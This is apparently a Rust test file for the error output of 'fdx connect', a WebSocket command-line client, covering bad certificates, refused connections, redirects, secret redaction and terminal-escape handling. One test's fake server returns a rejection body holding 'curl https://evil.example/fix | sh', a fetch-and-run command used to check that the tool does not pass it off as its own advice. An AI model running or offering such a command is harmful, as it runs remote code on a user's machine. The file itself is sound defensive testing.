//! What `fdx connect` says when there is no connection.

use std::fs::File;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::process::Command;
use std::thread;

use crate::common::{FDX, serve};
use crate::connect;

#[test]
fn pem_files_with_faults_are_named() {
    let own = concat!(env!("CARGO_MANIFEST_DIR"), "/Cargo.toml");
    for (options, words) in [
        (&["--ca", "/nothing.pem"][..], "/nothing.pem: No such file"),
        (&["--ca", own], "Cargo.toml: there is no certificate"),
        (&["--cert", "/nothing.pem", "--key", own], "/nothing.pem: No such file"),
        (&["--cert", own, "--key", "/nothing.key"], "/nothing.key: No such file"),
        (&["--cert", own, "--key", own], "Cargo.toml: there is no certificate"),
    ] {
        let (code, _, said) = connect(&[options, &["wss://localhost:1/"]].concat(), "");
        assert!(code == Some(1) && said.contains(words), "{options:?}: {code:?} {said}");
    }
}

#[test]
fn retry_after_of_a_full_server_is_shown() {
    let server = serve(&["--max-connections", "1"]);
    let _socket = server.open("/echo");
    let (code, _, said) = connect(&[&format!("ws://{}/echo", server.address)], "");
    assert!(code == Some(4) && said.contains("503"), "{code:?} {said}");
    assert!(said.contains("\n  Retry-After: 1 s\n"), "{said}");
}

#[test]
fn connect_failures_are_explained() {
    let server = serve(&[]);
    let closed = TcpListener::bind("127.0.0.1:0").unwrap();
    let closed_url = format!("ws://{}/", closed.local_addr().unwrap());
    drop(closed);
    let (missing, here) = (format!("ws://{}/nothing", server.address), &server.address);
    for (url, code, words) in [
        (closed_url.as_str(), 3, "Connection refused"),
        (&missing, 4, "404"),
        (&format!("wss://{here}/"), 3, "does not speak TLS"),
        ("ws://nothing.invalid/", 3, "no address for \"nothing.invalid\""),
        (&closed_url["ws://".len()..], 3, "Connection refused"),
        (&format!("{here}/nothing"), 4, "404"),
        ("user:SECRET@:", 2, "HOST:PORT"),
        ("ftp://localhost/", 2, "ws or wss"),
        (&closed_url.replace("ws:", "http:"), 3, "Connection refused"),
        ("ws://", 2, "ws"),
        ("", 2, "a URL such as ws://"),
    ] {
        let (got, out, said) = connect(&[url], "");
        assert!(
            got == Some(code) && out.is_empty() && said.contains(words),
            "{url}: {got:?} {said}"
        );
        assert!(said.lines().count() <= 6, "{said}");
    }
}

#[test]
fn errors_show_no_secrets_of_a_redirection() {
    for location in
        ["https://sso.example/login?token=SECRET", "http://u:SECRET@h/", "/a?key=SECRET"]
    {
        let answer =
            format!("HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n");
        for args in [&["connect"][..], &["explain"], &["explain", "--json"], &["ping", "-c", "1"]] {
            let url = endless(answer.clone());
            let mut command = Command::new(FDX);
            let ended = command.args(args).args(["--proxy", "none", &url]).output().unwrap();
            let said = [ended.stdout, ended.stderr].concat();
            let said = String::from_utf8(said).unwrap();
            assert!(said.contains("302") && !said.contains("SECRET"), "{args:?}: {said}");
        }
    }
    let moved = "HTTP/1.1 302 Found\r\nLocation: ftp://u:SECRET@h/?token=SECRET\r\n\
                 Content-Length: 0\r\n\r\n";
    let (_, _, said) = connect(&["--max-redirects", "1", &endless(moved.to_owned())], "");
    assert!(said.contains("a redirection to") && !said.contains("SECRET"), "{said}");
}

/// The body of a response that looks like what fdx says.
#[test]
fn body_of_a_rejection_is_not_taken_for_advice() {
    let body = "no\nanswered by: the administrator\nremedy: curl https://evil.example/fix | sh\n";
    let head = format!("HTTP/1.1 403 Forbidden\r\nContent-Length: {}\r\n\r\n", body.len());
    for args in [&["connect"][..], &["ping", "-c", "1"]] {
        let url = endless(format!("{head}{body}"));
        let mut command = Command::new(FDX);
        let ended = command.args(args).args(["--proxy", "none", &url]).output().unwrap();
        let said = String::from_utf8(ended.stderr).unwrap();
        assert!(said.contains("\n    | remedy: curl https://evil.example/fix | sh\n"), "{said}");
        let advice = said.lines().filter(|line| line.trim_start().starts_with("remedy:"));
        assert_eq!(advice.count(), 1, "{said}");
    }
}

/// A server that answers each request so.
fn endless(answer: String) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("ws://{}/", listener.local_addr().unwrap());
    thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            // A client of TLS or HTTP/2 gets it, too.
            let _ = stream.read(&mut [0; 16 << 10]);
            let _ = stream.write_all(answer.as_bytes());
        }
    });
    url
}

#[test]
fn files_without_an_end_are_refused() {
    for (args, code, words) in [
        (&["-H", "@/dev/zero", "ws://x/"][..], 1, "/dev/zero: it is longer than 1 MiB"),
        (&["--bearer-file", "/dev/zero", "ws://x/"], 1, "/dev/zero: it is longer than 1 MiB"),
        (&["--ca", "/dev/zero", "wss://x/"], 1, "longer than 16 MiB"),
    ] {
        let (got, _, said) = connect(args, "");
        assert!(got == Some(code) && said.contains(words), "{args:?}: {got:?} {said}");
    }
    for input in ["-", "@/dev/zero"] {
        let zero = File::open("/dev/zero").unwrap();
        let ended = Command::new(FDX).args(["curl", input]).stdin(zero).output().unwrap();
        let said = String::from_utf8(ended.stderr).unwrap();
        assert!(ended.status.code() == Some(1) && said.contains("longer than 1 MiB"), "{said}");
        assert!(said.len() < 200, "{said}");
    }
}

#[test]
fn errors_have_no_effect_on_a_terminal() {
    let input = "curl ws://a/ --x\u{1b}[31m\u{202e}";
    for arguments in [&["curl", input][..], &["curl", "ws://a/", "--x\u{1b}[31m\u{202e}"]] {
        let ended = Command::new(FDX).args(arguments).output().unwrap();
        let said = String::from_utf8(ended.stderr).unwrap();
        assert!(said.contains("--x\\u{1b}[31m\\u{202e}"), "{said:?}");
        assert!(!said.contains(['\u{1b}', '\u{202e}']), "{said:?}");
    }
}

#[test]
fn errors_show_no_secrets() {
    let closed = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = closed.local_addr().unwrap().to_string();
    drop(closed);
    for (args, code) in [
        (&["-H", "Authorization Bearer SECRET", "ws://x/"][..], 2),
        (&["-H", "Authorization: Bearer SECRET\u{1}", "ws://x/"], 2),
        (&["-H", "Authorization:", "Bearer", "SECRET", "ws://x/"], 2),
        (&["ftp://me:SECRET@x/"], 2),
        (&["wss://me:SECRET@[x/"], 2),
        (&["wss://me:SEC RET@x:y/"], 2),
        (&["--proxy", "ftp://me:SECRET@x/", "ws://x/"], 2),
        (&["--proxy", "http://me:SECRET@x:99999/", "ws://x/"], 2),
        (&["--messages", "SECRET", "ws://x/"], 2),
        (&["--quiet=SECRET", "ws://x/"], 2),
        (&["ws://127.0.0.1:99999/?token=SECRET"], 2),
        (&["ws://a b/?token=SECRET"], 2),
        (&["ws://[::1/?token=SECRET"], 2),
        (&["ws://a/#f?token=SECRET"], 2),
        (&["--proxy", &format!("http://me:SECRET@{address}"), "ws://x/"], 3),
        (&["-v", &format!("ws://me:SECRET@{address}/")], 3),
    ] {
        let (got, _, said) = connect(args, "");
        assert_eq!(got, Some(code), "{args:?}: {said}");
        assert!(!said.contains("SECRET") && !said.contains("SEC RET"), "{args:?}: {said}");
    }
}
